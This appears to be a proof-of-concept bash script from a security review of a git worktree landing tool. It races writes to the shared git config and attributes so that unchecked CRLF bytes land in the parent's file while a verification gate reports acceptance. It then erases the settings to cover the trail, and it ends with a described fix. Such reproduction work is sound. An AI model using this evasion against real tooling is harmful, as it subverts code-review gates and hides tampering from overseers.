#!/usr/bin/env bash
# Finding 1: the land's read-back (notAsTree) runs git in the parent's top level with the
# shared config, so a `core.worktree` the child writes into <common>/config after the checkout
# makes it read a directory of the child's instead of the parent's files. Together with a late
# `f.txt eol=crlf` in <common>/info/attributes (written after the last attribute check, before
# read-tree -m -u reads it; refused if present earlier), the checkout writes bytes gate never
# checked (CRLF line ends) into the parent's f.txt, the read-back hashes the decoy's LF copy and
# passes, and the child erases both settings: `verdict: accept`, `landed`, exit 0.
# The child's clock is the land's own scratch index in <common>/objects: it is rewritten (a new
# inode: git renames its lock over it) once by update-index --refresh and once by read-tree.
# Run from the project root: bash docs/reviews/worktree-7/1-read-back-redirected-by-core-worktree.sh
. "$(dirname "$0")/common.sh"
RUNS=${RUNS:-5}
won=0; caught=0; other=0
for run in $(seq 1 "$RUNS"); do
  rm -rf "$WORK"/*; PIDS=""
  setup; with_f
  spawn c; C=$P/wt/c; common_of "$C"
  sed -i 's/^line 10$/child line/' "$C/f.txt"
  # The decoy: a directory of the child's holding f.txt as the merged tree has it (raw LF bytes).
  mkdir -p "$WORK/decoy"; cp "$C/f.txt" "$WORK/decoy/f.txt"
  WATCH_BEFORE=$(ls "$COMMON/objects" | grep '^tmp_tether_seed_' | tr '\n' ' ')
  (
    wait_merged_index || exit 0
    land_scratch || exit 0
    ino=$(stat -c %i "$SCRATCH") || exit 0
    ino=$(wait_rewritten "$SCRATCH" "$ino") || exit 0 # update-index --refresh is done
    printf 'f.txt eol=crlf\n' >> "$COMMON/info/attributes"
    wait_rewritten "$SCRATCH" "$ino" > /dev/null || exit 0 # read-tree -m -u is done
    git config --file "$COMMON/config" core.worktree "$WORK/decoy"
    sed -i '/^f.txt eol=crlf$/d' "$COMMON/info/attributes"
    echo "watcher: attribute raced in, read-back pointed at the decoy" >> "$WORK/ran.log"
    n=0; while [ -d "$COMMON/worktrees/c" ] && [ $n -lt 20000 ]; do n=$((n + 1)); done
    git config --file "$COMMON/config" --unset core.worktree
  ) &
  PIDS="$!"
  sleep 0.2
  out=$(land_report "$C" f.txt)
  wait "$PIDS" 2>/dev/null; PIDS=""
  git config --file "$COMMON/config" --unset core.worktree 2>/dev/null
  crlf=no; grep -q $'\r' "$P/f.txt" && crlf=yes
  echo "--- run $run:"; echo "$out" | sed 's/^/  /'
  echo "  watcher: $(cat "$WORK/ran.log" 2>/dev/null || echo '(lost the race)')"
  echo "  parent's f.txt has CRLF line ends (bytes gate did not check): $crlf;" \
    "config core.worktree now: $(git -C "$P" config core.worktree || echo none)"
  if echo "$out" | grep -q '^gate exit: 0' && [ $crlf = yes ]; then won=$((won + 1))
  elif echo "$out" | grep -q '^gate exit: 3'; then caught=$((caught + 1))
  else other=$((other + 1)); fi
done
echo "=== $RUNS runs: accept with unchecked bytes landed: $won; exit 3: $caught; other: $other"
# Reproduced: most runs print `verdict: accept`, `landed: 1 path: f.txt`, `gate exit: 0`, while
# the parent's f.txt has CRLF line ends (in no tree gate checked) and the config shows no trace.
# A fixed tether reads back with the work tree and git dir given (`--git-dir=<parent's git dir>
# --work-tree=<top>`, or GIT_DIR/GIT_WORK_TREE, as readChildWork already does for the child),
# so core.worktree cannot redirect it; better, its land's git calls run with a config only
# tether wrote. Then every run ends `gate exit: 3` naming f.txt (the raced conversion caught).
